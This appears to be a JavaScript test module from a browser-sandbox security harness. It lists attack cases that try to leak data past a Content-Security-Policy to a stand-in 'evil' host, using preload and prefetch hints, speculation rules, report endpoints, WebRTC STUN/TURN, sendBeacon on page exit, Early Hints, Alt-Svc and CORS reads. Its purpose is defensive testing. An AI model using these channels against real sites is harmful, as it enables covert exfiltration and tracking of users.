// Attacks that use what browsers do ahead of time or on the side: hints, prefetching, reports, media connections.

const LIST = '/api/container/list';
const rules = (what, urls) =>
  `<script type="speculationrules">${JSON.stringify({ [what]: [{ urls, eagerness: 'immediate' }] })}</script>`;
const link = (attributes) => `<link ${attributes}>`;
const hint = (name, html, more = {}) => ({ name: `hint: ${name}`, html, settle: 700, ...more });
const header = (name, value, more = {}) => ({
  name: `header: ${name}`,
  headers: (facts) => [[name, value(facts)]],
  settle: 600,
  ...more,
});
const AHEAD = {
  expect: 'refused',
  why: 'inline rules count as inline scripts, and no other directive looks at what they fetch',
};
const json = (value, type = 'application/json') => ({
  status: 200,
  headers: [['Content-Type', type]],
  body: JSON.stringify(value),
});

const ahead = [
  hint('preload of the API in every kind', () =>
    ['fetch', 'script', 'style', 'image', 'font', 'document', 'track']
      .map((as) => link(`rel="preload" as="${as}" href="${LIST}?${as}"`))
      .join(''),
  ),
  hint('preload from a foreign server', ({ evil }) =>
    ['fetch', 'script', 'style', 'image', 'font']
      .map((as) => link(`rel="preload" as="${as}" crossorigin href="${evil}/${as}"`))
      .join(''),
  ),
  hint(
    'modulepreload',
    ({ evil }) => link('rel="modulepreload" href="/assets/home.js"') + link(`rel="modulepreload" href="${evil}/x.js"`),
  ),
  hint(
    'prefetch of the API and the start page',
    () => link(`rel="prefetch" href="${LIST}"`) + link('rel="prefetch" as="document" href="/"'),
  ),
  hint('prefetch from a foreign server', ({ evil }) => link(`rel="prefetch" href="${evil}/p"`)),
  hint('prerender by link', () => link('rel="prerender" href="/"') + link('rel="next" href="/"'), {
    unconfined: 'varies',
  }),
  hint(
    'speculation rules: prefetch of API, start page, other desktop',
    ({ other }) => rules('prefetch', [LIST, '/', other]),
    AHEAD,
  ),
  hint(
    'speculation rules: prerender of start page and other desktop',
    ({ other }) => rules('prerender', ['/', other]),
    AHEAD,
  ),
  hint('speculation rules: a foreign server', ({ evil }) => rules('prefetch', [`${evil}/p`]), {
    settle: 1500,
    expect: 'open',
    why: 'inline rules count as inline scripts, and no other directive looks at what they fetch',
  }),
  hint(
    'preconnect to a foreign server',
    ({ evil }) => link(`rel="preconnect" href="${evil}"`) + link(`rel="preconnect" crossorigin href="${evil}"`),
    { tolerates: /got: tcp connection$/, unconfined: 'varies' },
  ),
  hint(
    'dns-prefetch, switched on by the page',
    ({ evil }) => '<meta http-equiv="x-dns-prefetch-control" content="on">' + link(`rel="dns-prefetch" href="${evil}"`),
    { unconfined: 'fails' },
  ),
  hint('compression dictionary', () => link(`rel="compression-dictionary" href="${LIST}"`)),
  hint(
    'policy of the page that reports to a foreign server',
    ({ evil }) => `<meta http-equiv="Content-Security-Policy"
    content="img-src 'none'; report-uri ${evil}/csp"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    { unconfined: 'fails' },
  ),
  hint(
    'client hints delegated to a foreign server',
    ({ evil }) => `<meta http-equiv="delegate-ch" content="sec-ch-ua-model ${evil}">
    <img src="${evil}/ch">`,
  ),
  {
    name: 'WebRTC: a packet to a foreign server',
    attack: async ({ evilHost }) => {
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${evilHost}` },
          { urls: `turn:${evilHost}?transport=tcp`, username: 'stolen', credential: 'x' },
        ],
      });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await late(800);
      return peer.iceGatheringState;
    },
    settle: 800,
    expect: 'open',
    why: 'CSP level 3 has a directive for it, `webrtc`, which the browser calls unrecognized and does not heed',
  },
  {
    name: 'sendBeacon and fetch to a foreign server as the page goes away',
    attack: ({ evil }) => {
      if (location.search) return 'the page is back';
      addEventListener('pagehide', () => {
        navigator.sendBeacon(`${evil}/b`, 'x');
        fetch(`${evil}/f`, { keepalive: true, mode: 'no-cors' });
      });
      location.search = '?again';
      return late(400);
    },
  },
];

const viaHeaders = [
  header(
    'Link',
    ({ evil }) =>
      `<${LIST}>; rel=preload; as=fetch; crossorigin=use-credentials, <${evil}/l>; rel=preload; as=image, <${evil}>; rel=preconnect`,
  ),
  {
    name: 'header: Link in early hints',
    answers: ({ own, evil }) => ({
      [`${own}early`]: {
        raw:
          `HTTP/1.1 103 Early Hints\r\nLink: <${evil}/e>; rel=preload; as=image, <${evil}>; rel=preconnect\r\n\r\n` +
          'HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: text/html\r\nContent-Length: 1\r\n\r\nx',
      },
    }),
    attack: ({ own }) => {
      location.href = `${own}early`;
      return late(600);
    },
    unconfined: 'varies',
  },
  header('Speculation-Rules', ({ own }) => `"${own}rules.json"`, {
    answers: ({ own, other }) => ({
      [`${own}rules.json`]: json(
        { prefetch: [{ urls: [LIST, '/', other], eagerness: 'immediate' }] },
        'application/speculationrules+json',
      ),
    }),
    settle: 1000,
  }),
  header('Content-Security-Policy with a report address', ({ evil }) => `img-src 'none'; report-uri ${evil}/csp`, {
    headers: ({ evil }) => [['Content-Security-Policy-Report-Only', `img-src 'none'; report-uri ${evil}/csp`]],
    html: () => '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  }),
  header('Report-To, NEL and Reporting-Endpoints', () => '', {
    headers: ({ evil }) => [
      ['Reporting-Endpoints', `default="${evil}/r"`],
      ['Report-To', `{"group":"default","max_age":9999,"endpoints":[{"url":"${evil}/r"}],"include_subdomains":true}`],
      ['NEL', '{"report_to":"default","max_age":9999,"success_fraction":1,"failure_fraction":1}'],
      ['Permissions-Policy', 'geolocation=();report-to=default'],
      ['Document-Policy', 'document-write=?0;report-to=default'],
    ],
    html: () => '<script>navigator.geolocation.getCurrentPosition(() => {}, () => {})</script>',
    // Browsers send reports when they find the time.
    unconfined: 'varies',
  }),
  header('Alt-Svc', ({ evilHost }) => `h2="${evilHost}"; ma=3600; persist=1, h3="${evilHost}"; ma=3600`, {
    attack: async ({ own }) => {
      await late(300);
      return read(`${own}again`);
    },
    unconfined: 'varies',
  }),
  header('Strict-Transport-Security and Public-Key-Pins', () => 'max-age=31536000; includeSubDomains; preload', {
    headers: () => [
      ['Strict-Transport-Security', 'max-age=31536000; includeSubDomains'],
      ['Public-Key-Pins', 'pin-sha256="x"; max-age=9'],
    ],
    unconfined: 'varies',
  }),
  header('Access-Control-Allow-Origin, read by a foreign page', ({ evil }) => evil, {
    headers: ({ evil }) => [
      ['Access-Control-Allow-Origin', evil],
      ['Access-Control-Allow-Credentials', 'true'],
      ['Cross-Origin-Resource-Policy', 'cross-origin'],
    ],
    attack: () => 'a page of the foreign server reads it',
    look: async ({ person, facts, lab }) => {
      const stranger = await person.page();
      await stranger.goto(`${facts.evil}/reader`);
      const got = await stranger.evaluate(
        async (url) => fetch(url, { credentials: 'include' }).then((r) => r.text(), String),
        facts.origin + facts.page,
      );
      await stranger.close();
      lab.collector.take();
      return got.includes('attack') ? ['a foreign page read the desktop’s page'] : [];
    },
    // The session cookie does not go along there, so even so nothing is to be had.
    unconfined: 'varies',
  }),
  header('Use-As-Dictionary for the whole origin', () => 'match="/*", id="tracked"', {
    headers: () => [
      ['Use-As-Dictionary', 'match="/*", id="tracked"'],
      ['Cache-Control', 'max-age=3600'],
    ],
    look: async ({ person, facts }) => {
      const tab = await person.page();
      const asked = tab.waitForRequest(`${facts.origin}/healthz`);
      await tab.goto(`${facts.origin}/healthz`);
      const sent = await (await asked).allHeaders();
      await tab.close();
      return sent['available-dictionary'] ? ['the browser tells the portal of the desktop’s dictionary'] : [];
    },
    unconfined: 'varies',
  }),
];

export const hints = [...ahead, ...viaHeaders];
